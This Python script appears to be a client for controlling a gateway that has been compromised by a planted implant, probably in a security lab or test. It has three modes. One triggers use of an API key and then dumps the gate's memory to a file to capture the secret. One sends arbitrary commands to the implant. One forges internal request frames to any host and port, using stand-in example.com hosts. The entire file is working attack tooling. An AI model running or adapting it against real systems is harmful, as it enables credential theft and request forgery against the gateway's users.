# SPDX-License-Identifier: Apache-2.0
"""Words to a gate that has been taken over (planted.c), from inside.

    gate.py mem FILE | try WHAT | exchange HOST ADDRESS PORT tls|clear HEADER...
"""
import socket
import struct
import sys

from trick import API, answered, look_up, read, request, say, talk, tcp, tls


def word(text, rest=b"", wait=3.0):
    s = tcp(API, 80)
    if not s or not say(s, b"CAPTURED " + text.encode() + b"\n"):
        return b""
    if rest:
        say(s, rest)
    out = b""
    s.settimeout(wait)
    try:
        while data := s.recv(1 << 16):
            out += data
    except OSError:
        pass
    return out


def text(s):
    s = s.encode()
    return struct.pack("<H", len(s)) + s


def frame(kind, payload=b""):
    return struct.pack("<IHBB", len(payload), 0, kind, 0) + payload


def exchange(host, addr, port, secure, headers):
    """A request in the gate's words (exchange.h), whoever it is for."""
    at = socket.inet_pton(socket.AF_INET6, addr if ":" in addr else "::ffff:" + addr)
    head = struct.pack("<BBHq", 1 if secure else 0, 1, port, 0) + text("GET") + text(host) + text("/captured") + at
    head += struct.pack("<H", len(headers))
    for name, value in headers:
        head += b"\0" + text(name) + text(value)
    data = frame(1, head) + frame(4, b"")
    return word(f"EXCHANGE {len(data)}", data)


look_up("api.example.com")
if sys.argv[1] == "mem":
    # something is to be in there: a request of this marker, and the secret in use
    addr = look_up("key.example.com")[0]
    s = tls(addr, 443, "key.example.com")
    say(s, request("key.example.com", "/", headers=["x-api-key: " + sys.argv[3], "x-marker: marker-of-this-dump"]))
    if not answered(read(s, 1)):
        sys.exit("the secret is not in use")
    with open(sys.argv[2], "wb") as f:
        f.write(word("MEM", wait=10))
elif sys.argv[1] == "try":
    print(word("TRY " + sys.argv[2]).decode() or "ended")
else:
    host, addr, port, how = sys.argv[2:6]
    print(exchange(host, addr, int(port), how == "tls", [h.split("=", 1) for h in sys.argv[6:]]))
